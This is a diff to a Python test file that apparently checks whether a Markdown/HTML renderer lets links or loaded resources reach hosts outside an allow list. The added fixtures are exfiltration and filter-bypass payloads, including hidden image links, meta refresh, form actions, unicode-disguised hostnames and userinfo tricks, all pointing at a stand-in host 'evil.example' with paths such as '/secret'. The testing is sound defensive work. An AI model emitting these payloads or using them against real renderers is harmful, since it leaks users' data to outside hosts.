@@ -65,10 +65,24 @@ MADE_UP = [
     '<div style="background:url(//evil.example/p)"> <svg><image href="//evil.example/p"/></svg>',
     "<b onclick=alert(1)>x</b> <td background='&#47;/evil.example'> <iframe\tsrcdoc=x>",
     "```\nhttps://evil.example/x ![x](https://evil.example/p)\n```\n~~~\n<img src=//evil.example>",
+    "<!-- ![x](https://evil.example/s) --> <!--><img src=//evil.example/s>--> evil.web/secret evil.coop/secret",
+    "<meta http-equiv=refresh content='0;url=/s'> <video poster=//evil.example/s> <form action=//evil.example>",
+    "[x](https://listed\uff0eexample/s) https://listed\u3002example/s https://lis\u200bted.example/s \uff48ttps://evil.example",
+    "https://listed.example:x@evil.example/s https://listed.example%40evil.example https://evil.example#@listed.example",
+    "It pays [a.pdf#page=3](https://evil.example/s). [[a.pdf]](https://evil.example/s) [a.pdf][https://evil.example]",
+    "| a | b |\n|---|---|\n| [x](https://evil.example/s) | ![y](https://evil.example/s) |\n| https://evil.example |",
+    '```mermaid\nclick A "https://evil.example/s"\n```\n$\\includegraphics{https://evil.example/s}$',
+    "[x](intent://evil.example/s) [x](ms-word:ofe|u|https://evil.example/s) [x](view-source:https://evil.example)",
+    "\\![x](https://evil.example/s) !\\[x](https://evil.example/s) [x\\](https://evil.example/s)",
+    "[a [b](https://evil.example/s) c](https://listed.example) [x](https://listed.example '![y](https://evil.example)')",
+    "[x](\n\nhttps://evil.example/s) https://\nevil.example/s h\u00adttps://evil.example/s [x](https://evil\n.example/s)",
+    "https://intra.example/forms/leave?x=1/s https://intra.example/forms/leave?x=1.secret https://intra.example/forms/s",
     f"[x](https://evil.example/{'a' * 3 * LONGEST_HELD}) ![{'a' * 3 * LONGEST_HELD}](a.png)",
 ]
 _NAMES = ("listed", "asked", "said", "intra", "portal", "own", "a.below", "www.site")
 HOSTS = {"", *(f"{name}.example" for name in _NAMES)}
+BARE = ("evil.com", "evil.web", "evil.coop", "a.pn")
+"""Hosts without a path: a name that stands in a text may stay."""
 READERS = [MarkdownIt("gfm-like", {"html": html, "linkify": True}) for html in (True, False)]
 
 
@@ -83,7 +97,7 @@ class _Shown(HTMLParser):
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         for name, value in attrs:
             url = urlsplit(f"{value}" if name == "href" and "[.]" not in f"{value}" else "")
-            is_known = url.netloc in HOSTS or (url.netloc.endswith(("evil.com", "a.pn")) and url[2:] == ("", "", ""))
+            is_known = url.netloc in HOSTS or (url.netloc.endswith(BARE) and url[2:] == ("", "", ""))
             leads = url.scheme not in ("", "http", "https", "mailto") or not is_known
             loads = name.startswith("on") or (name in ("background", "src", "style") and "[.]" not in f"{value}")
             if "<" in tag:
